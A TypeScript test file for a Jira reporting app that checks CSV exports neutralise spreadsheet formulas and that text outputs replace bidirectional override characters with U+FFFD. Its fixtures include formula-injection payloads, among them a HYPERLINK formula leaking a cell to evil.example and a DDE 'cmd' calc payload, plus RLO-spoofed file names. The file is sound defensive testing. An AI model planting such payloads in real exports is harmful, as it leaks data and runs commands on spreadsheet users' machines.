/**
 * Hostile text from Jira in what the app writes out (docs/security.md, "Exports"):
 * - spreadsheet formulas in the portfolio page's CSV export and the CLI's CSV: a cell starting with
 *   =, +, -, @, tab or carriage return is written as text (an apostrophe first), whatever follows;
 * - bidirectional override characters (U+202A to U+202E, U+2066 to U+2069), which can make a summary
 *   or a name display in another order than it is stored, in the table, Markdown and HTML output
 *   and in the CSVs: each becomes a visible U+FFFD.
 */
import { formatPortfolio, formatReport, type OutputFormat } from '../../src/report/format';
import type { PortfolioRow } from '../../src/shared/api';
import { rowsToCsv } from '../../static/shared/exportRows';
import { makeReport } from '../report/format/fixture';
import { readCsv } from '../report/format/csv-reader';

/** The payloads that reached a spreadsheet through the portfolio page's CSV. */
const FORMULAS = ['=1+HYPERLINK("https://evil.example/?leak="&A1,"Click")', '-1+cmd|\' /C calc\'!A0', '+1+2', '@1'];

function hostileRow(name: string, title: string): PortfolioRow {
  return {
    projectKey: 'EVIL', projectName: name, computedAt: '2026-11-20T08:00:00.000Z', score: 55, trafficLight: 'red', notAssessed: [],
    provisional: false, pointsLost: 45, scoreTerms: [{ points: 25, count: 1 }, { points: 10, count: 2 }], scoreTrend: [55],
    changes: { since: '2026-11-13T08:00:00.000Z', raised: [title], cleared: [], moved: [] }, ownThresholds: [title], switchedOff: [],
    reliabilityTrend: [0.5], readyRunwaySprints: 1, top10Overlap: 0.5, technicalInterleaving: 0.5, throughputPerWeek: 2, nearTermDoneBy85: null,
    topSignals: [{ id: 'unfinished-sprints', severity: 'critical', title }], signalCount: 1,
    refreshedNightly: true, refresh: { state: 'idle', progress: null, message: null, startedAt: null, finishedAt: null },
  };
}

describe('spreadsheet formulas in a CSV', () => {
  it.each(FORMULAS)('the portfolio page export writes %s as text, in a project name and in a signal title', (payload) => {
    const [, row] = readCsv(rowsToCsv([hostileRow(payload, payload)]));
    const risky = row.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(risky).toEqual([]);
    expect(row[1]).toBe(`'${payload}`);
  });

  it.each(FORMULAS)('the CLI writes %s as text, in a project name and in a signal\'s sentence', (payload) => {
    const report = makeReport();
    report.project.name = payload;
    report.signals[0].observation = payload;
    for (const csv of [formatPortfolio([report], 'csv'), formatReport(report, 'csv')]) {
      const cells = readCsv(csv).flat();
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      expect(cells).toContain(`'${payload}`);
    }
  });
});

describe('bidirectional overrides in text output', () => {
  const RLO = '\u202E';

  function hostileReport() {
    const report = makeReport();
    report.backlog!.nearTerm[0].summary = `Refund ${RLO}exe.txt`;
    report.sprints!.closed[0].name = `Sprint ${RLO}14`;
    report.sprints!.trend[0].name = `Sprint ${RLO}14`;
    report.people['acc-kit'].displayName = `Kit ${RLO}uaeroM`;
    return report;
  }

  it.each<OutputFormat>(['table', 'markdown', 'html', 'csv'])('%s output shows none, and marks where each was', (format) => {
    const text = formatReport(hostileReport(), format);
    expect(text).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    // The sprint name (in the trend), and in the full outputs the summary and the person's name (in the evidence), each keep a mark.
    expect(text).toContain('Sprint \uFFFD14');
    if (format === 'csv') return;
    expect(text).toContain('Refund \uFFFDexe.txt');
    expect(text).toContain('Kit \uFFFDuaeroM');
  });

  it('the portfolio outputs and the page export show none either', () => {
    const report = hostileReport();
    report.project.name = `Payments ${RLO}${'\u2066'}`;
    for (const text of [formatPortfolio([report], 'table'), formatPortfolio([report], 'markdown'), formatPortfolio([report], 'html'), formatPortfolio([report], 'csv')]) {
      expect(text).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
      expect(text).toContain('Payments \uFFFD\uFFFD');
    }
    expect(rowsToCsv([hostileRow(`Payments ${RLO}`, `Title ${'\u2067'}`)])).toContain('Payments \uFFFD');
  });
});
